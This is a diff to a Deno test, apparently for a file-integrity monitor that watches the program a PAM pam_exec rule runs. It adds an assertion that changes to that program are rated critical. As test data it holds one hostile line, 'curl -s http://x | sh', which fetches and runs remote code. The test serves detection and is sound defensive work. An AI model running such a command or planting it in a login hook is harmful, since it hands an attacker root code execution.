@@ -122,6 +122,8 @@ Deno.test("the program a PAM rule runs (pam_exec) is watched with the service: a
       (changed.bpfink?.diff as { added?: string[] } | undefined)?.added,
       ["curl -s http://x | sh"],
     );
+    // It runs as root at every login: any change to it is critical.
+    assertEquals(changed.bpfink?.severity, "critical");
   } finally {
     await d.stop();
   }
